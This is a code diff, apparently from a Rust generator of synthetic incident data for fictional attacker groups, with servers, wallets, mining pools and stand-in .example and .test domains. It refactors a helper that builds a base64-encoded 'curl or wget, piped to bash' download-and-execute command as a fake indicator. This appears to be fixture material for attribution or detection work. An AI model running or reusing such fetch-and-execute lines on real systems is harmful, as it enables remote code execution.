@@ -85,6 +85,29 @@ impl Family {
     }
 }
 
+/// Of an incident that shares no server, wallet, key or pool with any other: only names, folders and habits tell whose
+/// it is.
+pub(super) fn one_off_values(gang: usize, seed: u64, incident_seed: u64) -> Vec<String> {
+    let public = Random::new(scatter(seed ^ 0x900d));
+    let row = (GANGS[gang].0, GANGS[gang].1, GANGS[gang].2, GANGS[gang].3, GANGS[gang].4, GANGS[gang].5, false);
+    let mut values = values(&row, gang as u64, 1, incident_seed, &public);
+    let mut own = Random::new(incident_seed ^ 0x5e12e2);
+    // There are too few documentation addresses for an own one each.
+    let old =
+        std::mem::replace(&mut values[0], format!("{}.example", text(b"abcdefghijklmnopqrstuvwxyz", 9, &mut own)));
+    for value in [1, 2, 3] {
+        values[value] = values[value].replace(&old, &values[0]);
+    }
+    values[8] = format!("{}.test:{}", text(b"abcdefghijklmnopqrstuvwxyz", 8, &mut own), own.between(1000, 9999));
+    let script = &values[2];
+    values[12] = base64(payload(script).as_bytes());
+    values
+}
+
+fn payload(script: &str) -> String {
+    format!("(curl -fsSL {script}||wget -q -O- {script})|bash")
+}
+
 /// What stays with a gang (wallet, key, folder, bot) is drawn from the gang alone; the rest from the wave too.
 fn values(row: &Row, gang: u64, wave: u64, seed: u64, public: &Random) -> Vec<String> {
     const BASE58: &[u8] = b"123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz";
@@ -119,12 +142,11 @@ fn values(row: &Row, gang: u64, wave: u64, seed: u64, public: &Random) -> Vec<St
         2 + (gang * WAVES + wave) * 6 + new.below(6),
         [6667, 443, 8443, 31337, 1234][new.below(5) as usize]
     );
-    let payload = format!("(curl -fsSL {script}||wget -q -O- {script})|bash");
     let second = format!("{}.{}.example", text(&LOWER[..26], 3, &mut new), text(LOWER, 6, &mut new));
     vec![
         server,
         url.clone(),
-        script,
+        script.clone(),
         format!("{url}/{}", row.4),
         wallet,
         pool,
@@ -134,7 +156,7 @@ fn values(row: &Row, gang: u64, wave: u64, seed: u64, public: &Random) -> Vec<St
         row.3.to_owned(),
         row.4.to_owned(),
         row.5.to_owned(),
-        base64(payload.as_bytes()),
+        base64(payload(&script).as_bytes()),
         mail,
         second,
         channel,
